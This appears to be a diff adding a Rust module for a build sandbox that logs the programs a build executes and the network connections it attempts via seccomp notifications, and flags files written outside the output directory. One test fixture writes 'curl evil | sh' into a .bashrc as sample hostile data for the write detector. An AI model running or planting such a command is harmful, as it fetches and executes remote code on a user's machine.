@@ -1,0 +1,639 @@
+//! What a build did, observed from outside without ptrace: zt's supervisor of the seccomp
+//! notification program (see `filter::notify_program`) records every `execve`/`execveat`
+//! (the path asked for and the sha256 of the file found there) and every `connect` (the
+//! address, port and the program that tried); `wait4` gives the CPU time and peak memory.
+//!
+//! The supervisor never decides anything: every notification is answered with
+//! `SECCOMP_USER_NOTIF_FLAG_CONTINUE`, whatever the build's memory says, so the call then runs
+//! as it would have without the program (the deny programs and Landlock still apply, and
+//! outrank a notification). What it reads from the build's memory (a path, an address) is
+//! what the build asked for at that moment: another thread of the build can change it before
+//! the kernel reads it (a time-of-check race), so the record is evidence of an attempt, not
+//! proof of what ran. See docs/watch.md for what each source can miss.
+
+use std::collections::{BTreeMap, BTreeSet, HashMap};
+use std::fs::File;
+use std::os::fd::{AsFd as _, AsRawFd as _, OwnedFd};
+use std::os::unix::fs::{FileExt as _, MetadataExt as _};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+
+use nix::libc;
+use serde_json::{Value, json};
+
+/// At most this many distinct programs and network attempts are kept (the rest counted).
+pub const MAX_EVENTS: usize = 4096;
+
+/// A program the build executed.
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
+pub struct Exec {
+    /// The path as the build named it (absolute inside the sandbox when it named one).
+    pub path: String,
+    /// `sha256:<hex>` of the file found there; `None` when it could not be read (not a
+    /// regular file, not readable by the build, gone).
+    pub digest: Option<String>,
+    /// How many times it was executed.
+    pub count: u64,
+}
+
+/// A network attempt (refused: the sandbox has no network, and Landlock denies TCP connect;
+/// recorded all the same).
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
+pub struct Connect {
+    /// `inet`, `inet6`, `unix` or `other(<family>)`.
+    pub family: String,
+    /// The address (`203.0.113.7`, `2001:db8::1`, a socket path, `@abstract`).
+    pub address: String,
+    /// The port (0 for unix sockets).
+    pub port: u16,
+    /// The program that tried (a path from the exec record, matched by device and inode).
+    pub program: String,
+    /// How many times.
+    pub count: u64,
+}
+
+/// Everything recorded about one build's behaviour.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Behaviour {
+    /// Whether exec and connect were recorded (false: the listener was unavailable, and why).
+    pub recorded: Result<(), String>,
+    /// The programs executed, by path.
+    pub executed: Vec<Exec>,
+    /// The network attempts.
+    pub network: Vec<Connect>,
+    /// Events beyond [`MAX_EVENTS`], not kept.
+    pub dropped: u64,
+    /// Wall-clock time from the exec of the command to its end, in milliseconds.
+    pub duration_ms: u64,
+    /// Wall-clock time the sandbox took before the exec (namespaces, mounts, filters), in
+    /// milliseconds: the sandbox's own cost per build.
+    pub setup_ms: u64,
+    /// User CPU time of the command and the descendants it waited for (`wait4`).
+    pub user_cpu_ms: u64,
+    /// System CPU time, the same way.
+    pub system_cpu_ms: u64,
+    /// The largest resident set of any one of those processes, in KiB (`ru_maxrss`).
+    pub peak_rss_kib: u64,
+    /// Files written or created in the writable source copy outside the output directory
+    /// (filled in by the build, which knows the copy; relative paths, sorted).
+    pub writes: Vec<String>,
+}
+
+impl Default for Behaviour {
+    fn default() -> Self {
+        Behaviour {
+            recorded: Err("not recorded".into()),
+            executed: Vec::new(),
+            network: Vec::new(),
+            dropped: 0,
+            duration_ms: 0,
+            setup_ms: 0,
+            user_cpu_ms: 0,
+            system_cpu_ms: 0,
+            peak_rss_kib: 0,
+            writes: Vec::new(),
+        }
+    }
+}
+
+impl Behaviour {
+    /// The provenance's `internalParameters.behaviour` object.
+    pub fn to_json(&self) -> Value {
+        json!({
+            "recorded": self.recorded.is_ok(),
+            "unavailable": self.recorded.as_ref().err(),
+            "durationMs": self.duration_ms,
+            "setupMs": self.setup_ms,
+            "cpu": { "userMs": self.user_cpu_ms, "systemMs": self.system_cpu_ms },
+            "peakRssKiB": self.peak_rss_kib,
+            "executed": self.executed.iter().map(|e| json!({
+                "path": e.path, "digest": e.digest, "count": e.count,
+            })).collect::<Vec<_>>(),
+            "network": self.network.iter().map(|c| json!({
+                "family": c.family, "address": c.address, "port": c.port,
+                "program": c.program, "count": c.count, "outcome": "refused",
+            })).collect::<Vec<_>>(),
+            "writes": self.writes,
+            "dropped": self.dropped,
+            "sources": {
+                "executed": "seccomp user notification (execve, execveat)",
+                "network": "seccomp user notification (connect)",
+                "cpu": "wait4 rusage",
+                "peakRss": "wait4 ru_maxrss",
+                "writes": "walk of the source copy",
+            },
+        })
+    }
+}
+
+/// The supervisor's running state, on its own thread.
+pub(crate) struct Supervisor {
+    stop: Arc<AtomicBool>,
+    thread: std::thread::JoinHandle<Recorded>,
+}
+
+/// What the supervisor collected: open files to hash once the build is over.
+pub(crate) struct Recorded {
+    execs: BTreeMap<String, (u64, Option<File>)>,
+    connects: BTreeMap<(String, String, u16, String), u64>,
+    dropped: u64,
+}
+
+impl Supervisor {
+    /// Starts serving `listener` on a thread.
+    pub(crate) fn start(listener: OwnedFd, build_uid: u32) -> std::io::Result<Supervisor> {
+        // Linux 6.6+: wake zt's thread synchronously on the notifying task's CPU (the
+        // scheduler then switches straight to it and back), which cuts the round trip of
+        // each exec. Best effort: an older kernel keeps the ordinary wake-up.
+        const SECCOMP_USER_NOTIF_FD_SYNC_WAKE_UP: u64 = 1;
+        // SAFETY: SECCOMP_IOCTL_NOTIF_SET_FLAGS takes the flags by value; no memory is read.
+        let _ = unsafe {
+            libc::ioctl(
+                listener.as_raw_fd(),
+                libc::SECCOMP_IOCTL_NOTIF_SET_FLAGS,
+                SECCOMP_USER_NOTIF_FD_SYNC_WAKE_UP,
+            )
+        };
+        let stop = Arc::new(AtomicBool::new(false));
+        let s = stop.clone();
+        let thread = std::thread::Builder::new()
+            .name("zt-sandbox-watch".into())
+            .spawn(move || serve(&listener, &s, build_uid))?;
+        Ok(Supervisor { stop, thread })
+    }
+
+    /// Stops (the build has ended) and returns what was recorded, hashed.
+    pub(crate) fn finish(self) -> (Vec<Exec>, Vec<Connect>, u64) {
+        self.stop.store(true, Ordering::SeqCst);
+        let Ok(rec) = self.thread.join() else {
+            return (Vec::new(), Vec::new(), 0);
+        };
+        let mut digests: HashMap<(u64, u64), Option<String>> = HashMap::new();
+        let executed = rec
+            .execs
+            .into_iter()
+            .map(|(path, (count, file))| {
+                let digest = file.and_then(|f| {
+                    let m = f.metadata().ok()?;
+                    digests
+                        .entry((m.dev(), m.ino()))
+                        .or_insert_with(|| {
+                            zt_core::Digest::of_reader(zt_core::DigestAlgorithm::Sha256, &f)
+                                .ok()
+                                .map(|d| d.to_string())
+                        })
+                        .clone()
+                });
+                Exec {
+                    path,
+                    digest,
+                    count,
+                }
+            })
+            .collect();
+        let network = rec
+            .connects
+            .into_iter()
+            .map(|((family, address, port, program), count)| Connect {
+                family,
+                address,
+                port,
+                program,
+                count,
+            })
+            .collect();
+        (executed, network, rec.dropped)
+    }
+}
+
+fn serve(listener: &OwnedFd, stop: &AtomicBool, build_uid: u32) -> Recorded {
+    use nix::poll::{PollFd, PollFlags, PollTimeout, poll};
+    let mut rec = Recorded {
+        execs: BTreeMap::new(),
+        connects: BTreeMap::new(),
+        dropped: 0,
+    };
+    // (dev, ino) of each program opened → its path, to name the program of a connect.
+    let mut programs: HashMap<(u64, u64), String> = HashMap::new();
+    let mut opened: BTreeSet<String> = BTreeSet::new();
+    loop {
+        let mut fds = [PollFd::new(listener.as_fd(), PollFlags::POLLIN)];
+        let ready = match poll(&mut fds, PollTimeout::from(50u16)) {
+            Ok(n) => n > 0,
+            Err(nix::errno::Errno::EINTR) => continue,
+            Err(_) => break,
+        };
+        let revents = fds[0].revents().unwrap_or(PollFlags::empty());
+        if ready && revents.contains(PollFlags::POLLIN) {
+            let Some(n) = recv(listener) else { continue };
+            handle(
+                listener,
+                &n,
+                &mut rec,
+                &mut programs,
+                &mut opened,
+                build_uid,
+            );
+            continue;
+        }
+        // No process is left under the filter, or the build ended and nothing is pending.
+        if revents.intersects(PollFlags::POLLHUP | PollFlags::POLLERR)
+            || stop.load(Ordering::SeqCst)
+        {
+            break;
+        }
+    }
+    rec
+}
+
+fn recv(listener: &OwnedFd) -> Option<libc::seccomp_notif> {
+    // SAFETY: seccomp_notif is plain data; the kernel requires it zeroed before RECV.
+    let mut n: libc::seccomp_notif = unsafe { std::mem::zeroed() };
+    // SAFETY: SECCOMP_IOCTL_NOTIF_RECV writes one `struct seccomp_notif` into `n`, which is
+    // that struct (libc's definition matches the kernel's UAPI).
+    let r = unsafe {
+        libc::ioctl(
+            listener.as_raw_fd(),
+            libc::SECCOMP_IOCTL_NOTIF_RECV,
+            &raw mut n,
+        )
+    };
+    (r == 0).then_some(n)
+}
+
+/// Whether the notification is still pending (the process that made it has not died and its
+/// pid been reused): checked after opening its `/proc` files, before trusting them.
+fn still_valid(listener: &OwnedFd, id: u64) -> bool {
+    // SAFETY: SECCOMP_IOCTL_NOTIF_ID_VALID reads one u64.
+    let r = unsafe {
+        libc::ioctl(
+            listener.as_raw_fd(),
+            libc::SECCOMP_IOCTL_NOTIF_ID_VALID,
+            &raw const id,
+        )
+    };
+    r == 0
+}
+
+/// Lets the call go on as if the program had not been there. Never anything else.
+fn continue_call(listener: &OwnedFd, id: u64) {
+    let resp = libc::seccomp_notif_resp {
+        id,
+        val: 0,
+        error: 0,
+        flags: libc::SECCOMP_USER_NOTIF_FLAG_CONTINUE as u32,
+    };
+    // SAFETY: SECCOMP_IOCTL_NOTIF_SEND reads one `struct seccomp_notif_resp`. It fails with
+    // ENOENT when the process died meanwhile, which needs nothing more.
+    let _ = unsafe {
+        libc::ioctl(
+            listener.as_raw_fd(),
+            libc::SECCOMP_IOCTL_NOTIF_SEND,
+            &raw const resp,
+        )
+    };
+}
+
+fn handle(
+    listener: &OwnedFd,
+    n: &libc::seccomp_notif,
+    rec: &mut Recorded,
+    programs: &mut HashMap<(u64, u64), String>,
+    opened: &mut BTreeSet<String>,
+    build_uid: u32,
+) {
+    let pid = n.pid;
+    let nr = i64::from(n.data.nr) & !0x4000_0000;
+    let args = n.data.args;
+    let mem = open_file(format!("/proc/{pid}/mem"));
+    let valid = still_valid(listener, n.id);
+    #[cfg(target_arch = "x86_64")]
+    let (execve, execveat, connect) = (
+        nr == libc::SYS_execve || nr == 520,
+        nr == libc::SYS_execveat || nr == 545,
+        nr == libc::SYS_connect,
+    );
+    #[cfg(not(target_arch = "x86_64"))]
+    let (execve, execveat, connect) = (
+        nr == libc::SYS_execve,
+        nr == libc::SYS_execveat,
+        nr == libc::SYS_connect,
+    );
+    if !valid || mem.is_none() {
+        continue_call(listener, n.id);
+        return;
+    }
+    let Some(mem) = mem else { return };
+    if execve || execveat {
+        let (dirfd, ptr, flags) = if execveat {
+            (args[0] as i32, args[1], args[4])
+        } else {
+            (libc::AT_FDCWD, args[0], 0)
+        };
+        let path = read_cstring(&mem, ptr).unwrap_or_default();
+        let empty_path = path.is_empty() && flags & libc::AT_EMPTY_PATH as u64 != 0;
+        let file = if empty_path {
+            open_file(format!("/proc/{pid}/fd/{dirfd}"))
+        } else {
+            open_in_sandbox(pid, dirfd, &path)
+        };
+        // The file was opened while the call waited: let it go on now, hash it later.
+        continue_call(listener, n.id);
+        let name = if empty_path {
+            std::fs::read_link(format!("/proc/{pid}/fd/{dirfd}"))
+                .map(|p| p.to_string_lossy().into_owned())
+                .unwrap_or_else(|_| format!("fd:{dirfd}"))
+        } else {
+            path
+        };
+        let file = file.filter(|f| readable_by_build(f, build_uid));
+        if let Some(f) = &file
+            && let Ok(m) = f.metadata()
+        {
+            programs.entry((m.dev(), m.ino())).or_insert(name.clone());
+        }
+        let full = rec.execs.len() >= MAX_EVENTS;
+        match rec.execs.get_mut(&name) {
+            Some(e) => e.0 += 1,
+            None if !full => {
+                let keep = opened.insert(name.clone());
+                rec.execs.insert(name, (1, if keep { file } else { None }));
+            }
+            None => rec.dropped += 1,
+        }
+    } else if connect {
+        let len = usize::try_from(args[2]).unwrap_or(0).min(128);
+        let mut buf = vec![0u8; len];
+        let got = mem.read_at(&mut buf, args[1]).unwrap_or(0);
+        buf.truncate(got);
+        let program = std::fs::metadata(format!("/proc/{pid}/exe"))
+            .ok()
+            .and_then(|m| programs.get(&(m.dev(), m.ino())).cloned())
+            // A program started another way (a script's interpreter): the kernel's name of
+            // the process's executable, as a path in the sandbox's mount namespace.
+            .or_else(|| {
+                std::fs::read_link(format!("/proc/{pid}/exe"))
+                    .ok()
+                    .map(|p| p.to_string_lossy().into_owned())
+            })
+            .unwrap_or_else(|| "(unknown)".into());
+        continue_call(listener, n.id);
+        let (family, address, port) = sockaddr(&buf);
+        let key = (family, address, port, program);
+        let full = rec.connects.len() >= MAX_EVENTS;
+        match rec.connects.get_mut(&key) {
+            Some(c) => *c += 1,
+            None if !full => {
+                rec.connects.insert(key, 1);
+            }
+            None => rec.dropped += 1,
+        }
+    } else {
+        continue_call(listener, n.id);
+    }
+}
+
+fn open_file(path: String) -> Option<File> {
+    fs_err::File::open(path).ok().map(|f| f.into_parts().0)
+}
+
+/// Reads a NUL-terminated string of at most 4096 bytes at `addr` of the build's memory,
+/// page by page (a string may end just before an unmapped page).
+fn read_cstring(mem: &File, addr: u64) -> Option<String> {
+    let mut out = Vec::new();
+    let mut at = addr;
+    while out.len() < 4096 {
+        let page_left = 4096 - (at % 4096) as usize;
+        let mut buf = vec![0u8; page_left.min(4096 - out.len())];
+        let n = mem.read_at(&mut buf, at).ok()?;
+        if n == 0 {
+            return None;
+        }
+        let chunk = buf.get(..n)?;
+        if let Some(end) = chunk.iter().position(|&b| b == 0) {
+            out.extend_from_slice(chunk.get(..end)?);
+            return Some(String::from_utf8_lossy(&out).into_owned());
+        }
+        out.extend_from_slice(chunk);
+        at += n as u64;
+    }
+    None
+}
+
+/// Opens what `path` names for the process `pid`, resolved inside its own root (absolute
+/// links stay in the sandbox; `RESOLVE_IN_ROOT`), never through magic links: relative to its
+/// working directory or `dirfd` when relative. Read-only, non-blocking (a FIFO cannot stall
+/// zt), not becoming a controlling terminal.
+fn open_in_sandbox(pid: u32, dirfd: i32, path: &str) -> Option<File> {
+    let base = if path.starts_with('/') {
+        format!("/proc/{pid}/root")
+    } else if dirfd == libc::AT_FDCWD {
+        format!("/proc/{pid}/cwd")
+    } else {
+        format!("/proc/{pid}/fd/{dirfd}")
+    };
+    let dir = open_file(base)?;
+    let c = std::ffi::CString::new(path).ok()?;
+    // SAFETY: open_how is plain data.
+    let mut how: libc::open_how = unsafe { std::mem::zeroed() };
+    how.flags = (libc::O_RDONLY | libc::O_NONBLOCK | libc::O_NOCTTY | libc::O_CLOEXEC) as u64;
+    how.resolve = libc::RESOLVE_IN_ROOT | libc::RESOLVE_NO_MAGICLINKS;
+    // SAFETY: openat2 reads the NUL-terminated path and `how` (its size given), both alive
+    // for the call, and returns a new descriptor or -1.
+    let fd = unsafe {
+        libc::syscall(
+            libc::SYS_openat2,
+            dir.as_raw_fd(),
+            c.as_ptr(),
+            &raw const how,
+            std::mem::size_of::<libc::open_how>(),
+        )
+    };
+    if fd < 0 {
+        return None;
+    }
+    // SAFETY: a fresh descriptor from the kernel, owned by nothing else.
+    let f = unsafe { <File as std::os::fd::FromRawFd>::from_raw_fd(fd as i32) };
+    f.metadata().ok().filter(|m| m.is_file()).map(|_| f)
+}
+
+/// zt may run as root, and read what the build cannot: a digest is recorded only of a file
+/// the build itself could read (others may read it, or the build's own id owns it readable).
+fn readable_by_build(f: &File, build_uid: u32) -> bool {
+    f.metadata()
+        .is_ok_and(|m| m.mode() & 0o004 != 0 || (m.uid() == build_uid && m.mode() & 0o400 != 0))
+}
+
+/// Family, address and port of a `struct sockaddr` as the build passed it.
+pub(crate) fn sockaddr(b: &[u8]) -> (String, String, u16) {
+    let family = b
+        .get(..2)
+        .map(|f| u16::from_ne_bytes([f[0], f[1]]))
+        .unwrap_or(0);
+    let port = b
+        .get(2..4)
+        .map(|p| u16::from_be_bytes([p[0], p[1]]))
+        .unwrap_or(0);
+    match i32::from(family) {
+        libc::AF_INET => {
+            let a = b
+                .get(4..8)
+                .map(|a| std::net::Ipv4Addr::new(a[0], a[1], a[2], a[3]).to_string())
+                .unwrap_or_default();
+            ("inet".into(), a, port)
+        }
+        libc::AF_INET6 => {
+            let a = b
+                .get(8..24)
+                .and_then(|a| <[u8; 16]>::try_from(a).ok())
+                .map(|a| std::net::Ipv6Addr::from(a).to_string())
+                .unwrap_or_default();
+            ("inet6".into(), a, port)
+        }
+        libc::AF_UNIX => {
+            let p = b.get(2..).unwrap_or_default();
+            let a = match p.first() {
+                Some(0) => format!(
+                    "@{}",
+                    String::from_utf8_lossy(p.get(1..).unwrap_or_default()).trim_end_matches('\0')
+                ),
+                _ => {
+                    let end = p.iter().position(|&c| c == 0).unwrap_or(p.len());
+                    String::from_utf8_lossy(p.get(..end).unwrap_or_default()).into_owned()
+                }
+            };
+            ("unix".into(), a, 0)
+        }
+        f => (format!("other({f})"), String::new(), 0),
+    }
+}
+
+/// Takes the listener the child created (descriptor `fd` in it) through its pidfd.
+pub(crate) fn take_listener(pidfd: &OwnedFd, fd: i32) -> Result<OwnedFd, String> {
+    // SAFETY: pidfd_getfd(pidfd, fd, 0) duplicates the child's descriptor into this process
+    // (close-on-exec) or returns -1; it reads and writes no memory of ours.
+    let r = unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd.as_raw_fd(), fd, 0u32) };
+    if r < 0 {
+        return Err(format!("pidfd_getfd: {}", nix::errno::Errno::last()));
+    }
+    // SAFETY: a fresh descriptor from the kernel, owned by nothing else.
+    Ok(unsafe { <OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(r as i32) })
+}
+
+/// Files written or created in `copy` (the source copy after the build) outside `out`:
+/// anything not in `before` (relative paths of the copy before the build, with sizes), or whose
+/// mtime is no longer `sde` (every file of the copy carried it), or whose size changed.
+pub fn writes_outside(
+    copy: &std::path::Path,
+    out: &std::path::Path,
+    before: &BTreeMap<String, u64>,
+    sde: i64,
+) -> Vec<String> {
+    let mut found = Vec::new();
+    let mut stack = vec![copy.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        let Ok(rd) = fs_err::read_dir(&d) else {
+            continue;
+        };
+        for e in rd.flatten() {
+            let p = e.path();
+            let Ok(rel) = p.strip_prefix(copy) else {
+                continue;
+            };
+            if rel == out {
+                continue;
+            }
+            let Ok(m) = fs_err::symlink_metadata(&p) else {
+                continue;
+            };
+            let name = rel.to_string_lossy().into_owned();
+            if m.is_dir() {
+                stack.push(p);
+                continue;
+            }
+            let changed = match before.get(&name) {
+                None => true,
+                Some(&size) => m.mtime() != sde || (m.is_file() && m.len() != size),
+            };
+            if changed {
+                found.push(name);
+            }
+        }
+    }
+    found.sort();
+    found
+}
+
+/// The relative paths and sizes of the files in `copy` (for [`writes_outside`]).
+pub fn files_before(copy: &std::path::Path) -> BTreeMap<String, u64> {
+    let mut found = BTreeMap::new();
+    let mut stack = vec![copy.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        let Ok(rd) = fs_err::read_dir(&d) else {
+            continue;
+        };
+        for e in rd.flatten() {
+            let p = e.path();
+            let Ok(m) = fs_err::symlink_metadata(&p) else {
+                continue;
+            };
+            if m.is_dir() {
+                stack.push(p);
+            } else if let Ok(rel) = p.strip_prefix(copy) {
+                found.insert(rel.to_string_lossy().into_owned(), m.len());
+            }
+        }
+    }
+    found
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn sockaddr_reads_inet_inet6_and_unix() {
+        let mut v4 = vec![0u8; 16];
+        v4[..2].copy_from_slice(&(libc::AF_INET as u16).to_ne_bytes());
+        v4[2..4].copy_from_slice(&443u16.to_be_bytes());
+        v4[4..8].copy_from_slice(&[203, 0, 113, 7]);
+        assert_eq!(sockaddr(&v4), ("inet".into(), "203.0.113.7".into(), 443));
+        let mut v6 = vec![0u8; 28];
+        v6[..2].copy_from_slice(&(libc::AF_INET6 as u16).to_ne_bytes());
+        v6[2..4].copy_from_slice(&53u16.to_be_bytes());
+        v6[8] = 0x20;
+        v6[9] = 0x01;
+        v6[23] = 1;
+        assert_eq!(sockaddr(&v6), ("inet6".into(), "2001::1".into(), 53));
+        let mut un = (libc::AF_UNIX as u16).to_ne_bytes().to_vec();
+        un.extend_from_slice(b"/run/docker.sock\0");
+        assert_eq!(sockaddr(&un), ("unix".into(), "/run/docker.sock".into(), 0));
+        // Truncated and hostile input never panics.
+        assert_eq!(sockaddr(&[]).0, "other(0)");
+        assert_eq!(sockaddr(&v4[..5]).1, "");
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn sockaddr_never_panics(b in proptest::collection::vec(proptest::num::u8::ANY, 0..140)) {
+            let _ = sockaddr(&b);
+        }
+    }
+
+    #[test]
+    fn writes_outside_the_output_are_found_by_name_size_and_mtime() {
+        let d = tempfile::tempdir().unwrap();
+        let c = d.path();
+        fs_err::create_dir_all(c.join("src")).unwrap();
+        fs_err::create_dir_all(c.join("out")).unwrap();
+        fs_err::write(c.join("src/a.c"), "int a;").unwrap();
+        fs_err::write(c.join("keep"), "k").unwrap();
+        crate::build::set_mtimes(c, 1000).unwrap();
+        let before = files_before(c);
+        fs_err::write(c.join("out/app"), "binary").unwrap();
+        fs_err::write(c.join("src/a.c"), "int b;").unwrap();
+        fs_err::write(c.join(".bashrc"), "curl evil | sh").unwrap();
+        let w = writes_outside(c, std::path::Path::new("out"), &before, 1000);
+        assert_eq!(w, vec![".bashrc".to_string(), "src/a.c".to_string()]);
+    }
+}
